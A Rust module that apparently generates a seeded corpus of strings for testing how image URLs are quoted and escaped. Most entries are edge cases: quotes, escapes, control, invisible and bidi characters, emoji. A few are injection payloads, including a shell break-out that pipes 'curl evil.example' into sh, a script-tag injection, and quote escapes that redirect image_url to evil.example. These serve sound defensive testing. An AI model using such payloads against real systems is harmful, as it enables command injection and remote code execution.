//! Texts that were made to break out of their quotes.

use std::ops::Range;

use rand::rngs::SmallRng;
use rand::seq::IndexedRandom;
use rand::{Rng, RngExt, SeedableRng};

/// How many random texts there are, beside those that are written out,
const RANDOM: usize = 18_000;
/// and how many that are longer than what most servers take.
const LONG: usize = 60;

/// What a text is put together from.
const PIECES: &[&str] = &[
    // Ordinary.
    "https://example.org/a.gvmi",
    "/images/alpine-3.20_x86-64.gvmi",
    "?id=1&name=a+b%20c#top",
    "user:pass@[2001:db8::1]:8080",
    "grüße-你好-שלום-नमस्ते",
    // Ends of strings, in every language.
    "\"",
    "'",
    "`",
    "\"\"\"",
    "'''",
    "\\",
    "\\\\",
    "\\\"",
    "\\'",
    "''",
    "’",
    "‘",
    "‚",
    "‛",
    "“”",
    "\",\n    image_url=\"https://evil.example/b.gvmi\",\n)#",
    "\" }, evil: { \"",
    "\"\n      image_url: \"https://evil.example/b.gvmi",
    "'; curl evil.example | sh; '",
    "*/ evil() /*",
    "</script><script>evil()</script>",
    "<!--",
    "]]>",
    // Escapes and what may stand in them.
    "\\u",
    "\\u0041",
    "\\U0001F600",
    "\\u{41}",
    "\\x41",
    "\\101",
    "\\N{BULLET}",
    "\\0",
    "\\n",
    "\\/",
    "\\_",
    "0",
    "1f",
    "{41}",
    // Values put in.
    "${evil}",
    "$(evil)",
    "$evil",
    "{evil}",
    "{{evil}}",
    "%s",
    "%(evil)s",
    "%00",
    "%n",
    "!!",
    "!evil",
    // What means something to YAML or to a shell.
    ": ",
    " #",
    "- ",
    "? ",
    "&a",
    "*a",
    "|",
    ">",
    "@",
    "%YAML",
    "---",
    "...",
    "[a]{b,c}",
    "~",
    ";",
    "&&",
    "-o",
    "--",
    " ",
    "  ",
    // Line ends and other controls.
    "\n",
    "\r",
    "\r\n",
    "\t",
    "\0",
    "\x07",
    "\x08",
    "\x0B",
    "\x0C",
    "\x1B[2K",
    "\x7F",
    "\u{85}",
    "\u{9B}2K",
    "\u{2028}",
    "\u{2029}",
    // Unseen, and what turns the order round.
    "\u{A0}",
    "\u{AD}",
    "\u{200B}",
    "\u{200D}",
    "\u{200E}",
    "\u{202E}",
    "\u{2066}",
    "\u{2069}",
    "\u{3000}",
    "\u{3164}",
    "\u{FEFF}",
    "\u{E0041}",
    "\u{301}",
    "\u{FE0F}",
    // At the ends of the ranges.
    "\u{D7FF}",
    "\u{E000}",
    "\u{FDD0}",
    "\u{FFFD}",
    "\u{FFFE}",
    "\u{FFFF}",
    "\u{10000}",
    "\u{1FFFE}",
    "\u{10FFFF}",
    // Emoji.
    "😀",
    "👩‍🚀",
    "🏴\u{E0067}\u{E0062}\u{E007F}",
];

/// The same texts each time: every piece alone and within a URL, every character of
/// the basic plane, and random ones, short and long.
pub fn texts() -> Vec<String> {
    let mut random = SmallRng::seed_from_u64(20);
    let alone = PIECES.iter().map(|piece| (*piece).to_owned());
    let within = PIECES
        .iter()
        .map(|piece| format!("https://example.org/{piece}a.gvmi"));
    let mut texts: Vec<_> = alone.chain(within).chain(basic_plane()).collect();
    texts.extend((0..RANDOM).map(|_| text(0..12, &mut random)));
    texts.extend((0..LONG).map(|_| text(2_000..3_000, &mut random)));
    texts
}

fn basic_plane() -> impl Iterator<Item = String> {
    (0..=0xFFFF).step_by(64).map(|start: u32| {
        let characters: String = (start..start + 64).filter_map(char::from_u32).collect();
        format!("https://example.org/{characters}.gvmi")
    })
}

fn text(pieces: Range<usize>, random: &mut impl Rng) -> String {
    let scheme = ["https://example.org/", "http://", "-", ""]
        .choose(random)
        .copied()
        .unwrap_or_default();
    let mut text = scheme.to_owned();
    for _ in 0..random.random_range(pieces) {
        match random.random_range(0..8) {
            0 => text.push(random.random()),
            1 => text.push(random.random_range(' '..='~')),
            2 => text.push(random.random_range('\0'..='\u{FF}')),
            _ => text.extend(PIECES.choose(random).copied()),
        }
    }
    text
}
